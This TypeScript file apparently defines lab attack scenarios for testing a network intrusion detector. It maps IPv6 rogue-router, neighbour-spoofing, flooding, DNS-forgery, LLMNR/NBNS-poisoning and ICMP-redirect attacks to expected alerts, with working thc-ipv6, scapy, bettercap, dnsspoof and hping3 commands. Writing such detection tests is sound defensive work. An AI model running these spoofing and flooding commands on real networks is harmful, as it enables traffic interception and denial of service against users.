/** Hosts that claim to be a router or a neighbour by IPv6, or a server of names, which they are not. */
import { foreignNames, type Site } from '../site.ts';
import type { Attack, Plan } from './attack.ts';

const speeds = { fast: [1, 1] } as const;

/** The gateway advertises itself; alice and it have just spoken; then, for `seconds`, the attack. */
function beside(site: Site, command: string, seconds: number, others: Plan['jobs'] = []): Plan {
  const range = `${site.net6},ra-only,64`;
  const router = ['dnsmasq', '-C', '/dev/null', '-d', '--port', '0', '--enable-ra', `--dhcp-range=${range}`, '--ra-param=eth0,4,1800'];
  const pings = Math.ceil(2 * (seconds + 4));
  return {
    jobs: [
      { host: 'gateway', argv: ['timeout', String(seconds + 5), ...router, '-i', 'eth0'] },
      { host: 'alice', argv: ['ping', '-6', '-q', '-i', '0.5', '-c', String(pings), site.address6('gateway')] },
      { host: 'evil', argv: ['bash', '-c', `sleep 3; exec timeout -s INT ${seconds} ${command}`] },
      ...others,
    ],
    attackers: [site.mac('evil')],
    victims: [site.address6('gateway'), site.address6('alice')],
    seconds: seconds + 8,
  };
}

/** By a tool of thc-ipv6, which names its programs `atk6-`. */
function thc(name: string, alert: string, program: string, technique: string, command: (site: Site) => string, seconds = 8): Attack {
  return {
    class: `ndp.${name}`,
    alerts: [alert],
    technique,
    tool: program,
    needs: [`atk6-${program}`, 'dnsmasq'],
    speeds,
    plan: (site) => beside(site, `atk6-${program} ${command(site)}`, seconds),
  };
}

/** The attacker's own hardware addresses are made up: what is known are the times. */
const unnamed = (plan: Plan): Plan => ({ ...plan, attackers: [], victims: [] });

/** Alice takes three addresses, each after asking whether anyone has it. */
function newAddresses(site: Site): Plan['jobs'] {
  const take = [1, 2, 3].map((i) => `ip address add ${site.net6}7${i}/64 dev eth0; sleep 1; ip address del ${site.net6}7${i}/64 dev eth0`);
  return [{ host: 'alice', argv: ['bash', '-c', `sleep 4; sysctl -qw net.ipv6.conf.eth0.accept_dad=1; ${take.join('; ')}`] }];
}

/** A script of scapy that sends `packet` once a second. */
function scapy(name: string, alert: string, technique: string, packet: (site: Site) => string): Attack {
  return {
    class: `ndp.${name}`,
    alerts: [alert],
    technique,
    tool: 'scapy',
    needs: ['scapy', 'dnsmasq'],
    speeds: { fast: [2, 8], medium: [0.5, 1] },
    plan(site, rate) {
      const script = `import time
from scapy.all import *
link = conf.L2socket(iface='eth0')
packet = bytes(Ether(src='${site.mac('evil')}', dst='${packet(site).includes('ff02::1') ? '33:33:00:00:00:01' : site.mac('alice')}') / ${packet(site)})
for i in range(6):
    link.outs.send(packet)
    time.sleep(${1 / rate})`;
      const plan = beside(site, 'true', Math.ceil(6 / rate) + 4);
      const [router, ping] = plan.jobs;
      return { ...plan, jobs: [router!, ping!, { host: 'evil', argv: ['bash', '-c', 'sleep 3; exec /usr/bin/python3 -c "$0"', script] }] };
    },
  };
}

/** Alice asks for names; somebody answers in the name of the server, which answers too. */
function forged(site: Site, command: string): Plan {
  // dnsspoof knows no question with EDNS.
  const ask = (name: string) => `dig +noedns +tries=1 +time=1 @${site.address('infra')} ${name}.example.test A > /dev/null; sleep 0.5`;
  const questions = Array.from({ length: 3 }, () => ['www', 'mail', 'files'].map(ask).join('; ')).join('; ');
  return {
    jobs: [
      { host: 'alice', argv: ['bash', '-c', `sleep 7; ${questions}`] },
      { host: 'evil', argv: ['bash', '-c', command] },
    ],
    // All names have one address here, so nothing says which of the two answers is the forged one.
    attackers: [],
    victims: [site.address('alice'), site.address('infra')],
    seconds: 24,
  };
}

const forgery = { class: 'names.forged', alerts: ['names.forged'], technique: 'T1557', speeds } as const;

/** Alice, who asks the town's server, is made to ask another, which leads everything to itself. */
function rogueServer(site: Site): Plan {
  const [evil, infra] = [site.address('evil'), site.address('infra')];
  const ask = (server: string) => foreignNames.map((name) => `dig +tries=1 +time=1 @${server} ${name} A > /dev/null; sleep 0.4`).join('; ');
  const options = `-C /dev/null -d --no-resolv --no-hosts --bind-interfaces --interface=eth0 --user=root --address=/#/${evil}`;
  return {
    jobs: [
      { host: 'evil', argv: ['dnsmasq', ...options.split(' ')] },
      { host: 'alice', argv: ['bash', '-c', `sleep 1; ${ask(infra)}; sleep 1; ${ask(evil)}`] },
    ],
    attackers: [evil],
    victims: [site.address('alice')],
    seconds: 12,
  };
}

/** Alice looks for computers that are not; whoever is asked, evil says that it is the one. By scapy's `answer`, which takes its own address. */
function poisoned(answer: string, ask: (site: Site, name: string) => string, needs: readonly string[]): Attack {
  const names = ['filesrv', 'wpad', 'intranet', 'printer7', 'mailhost'];
  return {
    class: 'names.poisoned',
    alerts: ['names.poisoned'],
    technique: 'T1557.001',
    tool: `scapy ${answer}`,
    needs: ['scapy', ...needs],
    speeds,
    plan: (site) => ({
      jobs: [
        {
          host: 'evil',
          argv: ['timeout', '-s', 'INT', '15', '/usr/bin/python3', '-c', `from scapy.all import *; ${answer}(iface='eth0')`],
        },
        { host: 'alice', argv: ['bash', '-c', `sleep 4; ${names.map((name) => `${ask(site, name)} > /dev/null; sleep 0.5`).join('; ')}`] },
      ],
      attackers: [site.address('evil')],
      victims: [site.address('alice')],
      seconds: 18,
    }),
  };
}

/** Alice speaks with a host outside; evil tells her that the way there leads by another host, or itself. */
function redirected(name: string, tool: string, command: (site: Site) => string): Attack {
  return {
    class: `icmp.${name}`,
    alerts: ['icmp.redirect'],
    technique: 'T1557',
    tool,
    needs: [tool],
    speeds,
    plan: (site) => ({
      jobs: [
        { host: 'alice', argv: ['ping', '-q', '-i', '0.5', '-c', '24', site.address('outside')] },
        { host: 'evil', argv: ['bash', '-c', `sleep 3; exec timeout -s INT 8 ${command(site)}`] },
      ],
      attackers: [site.mac('evil')],
      victims: [site.address('alice'), site.address('gateway')],
      seconds: 16,
    }),
  };
}

/** For hping3: in the name of the gateway, that `way` leads outside. */
function redirectBy(site: Site, way: 'evil' | 'web'): string {
  const [alice, outside] = [site.address('alice'), site.address('outside')];
  const message = `--icmp -C 5 -K 1 --icmp-gw ${site.address(way)} --icmp-ipsrc ${alice} --icmp-ipdst ${outside}`;
  return `-q -I eth0 -c 5 -a ${site.address('gateway')} ${message} ${alice}`;
}

export const neighbourAttacks: readonly Attack[] = [
  thc('rogue', 'ndp.rogue-router', 'fake_router6', 'T1557', () => 'eth0 fd00:bad::/64'),
  thc('rogue.dns', 'ndp.rogue-router', 'fake_router26', 'T1557', () => '-A fd00:bad::/64 -D fd00:bad::53 eth0'),
  thc('spoof.answers', 'ndp.spoof', 'parasite6', 'T1557', () => '-l eth0'),
  thc('spoof.announced', 'ndp.spoof', 'fake_advertise6', 'T1557', (site) => `eth0 ${site.address6('gateway')}`),
  {
    ...thc('flood', 'ndp.router-flood', 'flood_router26', 'T1499.001', () => ''),
    alerts: ['ndp.router-flood', 'flood.mac'],
    plan: (site) => unnamed(beside(site, 'atk6-flood_router26 eth0', 1)),
  },
  {
    ...thc('kill', 'ndp.router-kill', 'kill_router6', 'T1557', () => ''),
    plan: (site) => unnamed(beside(site, "atk6-kill_router6 eth0 '*'", 12)),
  },
  {
    ...thc('denial', 'ndp.dad-denial', 'dos-new-ip6', 'T1499', () => ''),
    plan: (site) => unnamed(beside(site, 'atk6-dos-new-ip6 eth0', 8, newAddresses(site))),
  },
  scapy(
    'rogue.bare',
    'ndp.rogue-router',
    'T1557',
    (site) => `IPv6(src='fe80::66', dst='ff02::1')/ICMPv6ND_RA(prf=1)/ICMPv6NDOptSrcLLAddr(lladdr='${site.mac('evil')}')`,
  ),
  scapy(
    'spoof.forced',
    'ndp.spoof',
    'T1557',
    (site) =>
      `IPv6(src='${site.address6('gateway')}', dst='${site.address6('alice')}')/ICMPv6ND_NA(tgt='${site.address6('gateway')}', R=1, S=1, O=1)` +
      `/ICMPv6NDOptDstLLAddr(lladdr='${site.mac('evil')}')`,
  ),
  {
    class: 'ndp.rogue',
    alerts: ['ndp.rogue-router'],
    technique: 'T1557',
    tool: 'bettercap',
    needs: ['bettercap', 'dnsmasq'],
    speeds,
    plan: (site) =>
      beside(
        site,
        `bettercap -no-history -no-colors -iface eth0 -gateway-override ${site.address('gateway')} ` +
          `-eval 'set ndp.spoof.targets ${site.address6('alice')}; set ndp.spoof.prefix d00d::; ndp.spoof on; sleep 10; quit'`,
        16,
      ),
  },
  {
    ...forgery,
    tool: 'bettercap',
    needs: ['bettercap', 'dig'],
    plan: (site) =>
      forged(
        site,
        `exec timeout 20 bettercap -no-history -no-colors -iface eth0 -gateway-override ${site.address('gateway')} ` +
          `-eval 'set dns.spoof.domains *.example.test; set dns.spoof.all true; set arp.spoof.targets ${site.address('alice')}; ` +
          `set arp.spoof.internal true; arp.spoof on; dns.spoof on; sleep 16; quit'`,
      ),
  },
  {
    ...forgery,
    tool: 'dnsspoof',
    needs: ['dnsspoof', 'dig'],
    plan: (site) => forged(site, 'exec timeout -s INT 20 dnsspoof -i eth0'),
  },
  {
    class: 'dns.rogue-server',
    alerts: ['dns.rogue-server'],
    technique: 'T1557',
    tool: 'dnsmasq',
    needs: ['dnsmasq', 'dig'],
    speeds,
    plan: rogueServer,
  },
  poisoned('llmnr_spoof', (_site, name) => `dig +noedns +norecurse +tries=1 +time=1 -p 5355 @224.0.0.252 ${name} A`, ['dig']),
  poisoned('nbns_spoof', ({ net }, name) => `nmblookup -B ${net}.255 ${name}`, ['nmblookup']),
  redirected('redirect', 'hping3', (site) => `hping3 ${redirectBy(site, 'evil')}`),
  // It speaks with the gateway itself, as who stands in the middle does.
  redirected(
    'redirect.elsewhere',
    'hping3',
    (site) => `sh -c "ping -q -c 2 ${site.address('gateway')} & exec hping3 ${redirectBy(site, 'web')}"`,
  ),
  redirected(
    'redirect',
    'ettercap',
    (site) => `ettercap -T -q -i eth0 -M icmp:${site.mac('gateway')}/${site.address('gateway')} < /dev/null`,
  ),
  thc(
    'redirect',
    'icmp.redirect',
    'redir6',
    'T1557',
    (site) => `eth0 ${site.address6('alice')} ${site.address6('web')} ${site.address6('gateway')} ${site.address6('evil')}`,
  ),
];
